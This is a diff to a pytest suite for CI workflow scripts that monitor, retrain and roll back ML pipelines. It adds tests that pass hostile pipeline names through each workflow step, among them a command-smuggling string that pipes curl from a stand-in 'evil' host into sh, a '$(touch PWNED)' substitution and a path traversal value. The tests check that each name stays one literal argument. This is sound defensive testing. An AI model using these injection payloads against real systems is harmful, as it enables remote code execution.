@@ -51,18 +51,45 @@ def test_an_alarm_that_nobody_answers_for_and_a_monitor_that_cannot_look_fail(
     code: int, ends: int, said: str, tmp_path: Path
 ) -> None:
     fake(tmp_path, f"exit {code}")
-    done = run(tmp_path, script("monitor/every-hour", "Monitor"), PIPELINES="fraud visits")
+    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
     assert done.returncode == ends, done.stderr
-    assert calls(tmp_path) == [f"monitor fraud visits --outputs {tmp_path / 'output'}"]
+    assert calls(tmp_path) == ["monitor fraud visits --asking asking.txt"]
     assert done.stdout.startswith(said)
+    assert not (tmp_path / "output").exists()
+
+
+def test_reports_that_ask_are_told_by_the_index_of_the_job(tmp_path: Path) -> None:
+    fake(tmp_path, "printf 'fraud:%064d\\nvisits:%064d\\n' 1 2 > asking.txt; exit 2")
+    done = run(tmp_path, script("monitor/watch", "Monitor"), PIPELINES="fraud visits", INDEX="3")
+    assert done.returncode == 0, done.stderr
+    assert outputs(tmp_path) == {"asked": "true", "reports-3": f"fraud:{1:064d} visits:{2:064d}"}
+
+
+@needs_jq
+@pytest.mark.parametrize(("names", "count"), [([], 0), (["churn"], 1), ([f"p{n:04}" for n in range(1000)], 1000)])
+def test_what_is_due_is_shared_out_over_the_jobs_there_are(names: list[str], count: int, tmp_path: Path) -> None:
+    fake(tmp_path, f"""echo '{json.dumps({"schema_version": 1, "pipelines": names})}'""")
+    done = run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="6 22 * * 1")
+    assert done.returncode == 0, done.stderr
+    assert calls(tmp_path) == ["monitor --due 6 22 * * 1 -o json"]
+    told = outputs(tmp_path)
+    found = json.loads(told["batches"])
+    assert told["count"] == str(count)
+    assert len(found) == min(count, 32)
+    assert [batch["index"] for batch in found] == list(range(len(found)))
+    assert [name for batch in found for name in batch["pipelines"].split()] == names
+
+
+def test_a_schedule_that_cannot_be_asked_about_ends_the_job(tmp_path: Path) -> None:
+    fake(tmp_path, "exit 4")
+    assert run(tmp_path, script("monitor/due", "Find what is due"), SCHEDULE="1 1 * * *").returncode == 4
+    assert not (tmp_path / "output").exists()
 
 
 def alarms(**digests: str) -> str:
-    told = {f"report-{name}": digest for name, digest in digests.items()}
-    needs: dict[str, Any] = {
-        "every-day": {"result": "success", "outputs": {"asked": "true", **told}},
-        "every-hour": {"result": "skipped", "outputs": {}},
-    }
+    first, *rest = (f"{name}:{digest}" for name, digest in digests.items())
+    told = {"reports-0": first, "reports-1": "", "reports-2": " ".join(rest)}
+    needs: dict[str, Any] = {"watch": {"result": "success", "outputs": {"asked": "true", **told}}}
     return json.dumps(needs)
 
 
@@ -73,7 +100,7 @@ def test_a_report_that_was_swapped_proposes_nothing_and_ends_with_5(tmp_path: Pa
         (tmp_path / "monitoring" / name / "report.json").write_text(f'{{"pipeline": "{name}"}}')
     fake(tmp_path)
     good = hashlib.sha256(b'{"pipeline": "visits"}').hexdigest()
-    needs = alarms(churn="0" * 64, visits=good, missing="1" * 64, quiet="")
+    needs = alarms(churn="0" * 64, visits=good, missing="1" * 64)
     done = run(tmp_path, script("monitor/retrain", "Propose a retraining"), NEEDS=needs)
     assert done.returncode == 5
     assert calls(tmp_path) == ["retrain visits --cause monitoring/visits/report.json --propose"]
@@ -125,11 +152,29 @@ def test_each_new_bundle_is_proposed_where_the_project_says(tmp_path: Path) -> N
     assert calls(tmp_path) == [f"release {name} --env staging --propose" for name in ("churn", "visits")]
 
 
-def test_what_was_chosen_reaches_a_verb_as_one_word(tmp_path: Path) -> None:
-    fake(tmp_path)
-    hostile = 'x";curl${IFS}evil|sh;"'
-    run(tmp_path, script("rollback/rollback", "Propose the bundle before"), PIPELINES=hostile, ENVIRONMENT="prod")
-    assert calls(tmp_path) == [f"rollback {hostile} --env prod --propose"]
+ASKED = {
+    ("rollback/rollback", "Propose the bundle before"): "rollback --env prod --propose -- ",
+    ("retrain/retrain", "Is there such a pipeline?"): "render -- ",
+    ("retrain/retrain", "Look at what was served"): "monitor -- ",
+    ("retrain/retrain", "Propose a retraining"): "retrain --propose -- ",
+}
+
+
+@pytest.mark.parametrize("asked", ASKED)
+@pytest.mark.parametrize("typed", ['x";curl${IFS}evil|sh;"', "$(touch PWNED)", "*", "a b", "--help", "../churn"])
+def test_what_was_typed_reaches_a_verb_as_one_word_that_is_no_option(
+    asked: tuple[str, str], typed: str, tmp_path: Path
+) -> None:
+    fake(tmp_path, 'echo "$#" > words')
+    run(tmp_path, script(*asked), PIPELINES=typed, ENVIRONMENT="prod")
+    assert calls(tmp_path) == [f"{ASKED[asked]}{typed}"]
+    assert (tmp_path / "words").read_text() == f"{len(ASKED[asked].split()) + 1}\n"
+    assert not (tmp_path / "PWNED").exists()
+
+
+def test_the_name_is_known_before_any_other_step_sees_it() -> None:
+    steps = [step for step in JOBS["retrain/retrain"]["steps"] if "PIPELINES" in step.get("env", {})]
+    assert steps[0]["name"] == "Is there such a pipeline?"
 
 
 @needs_jq
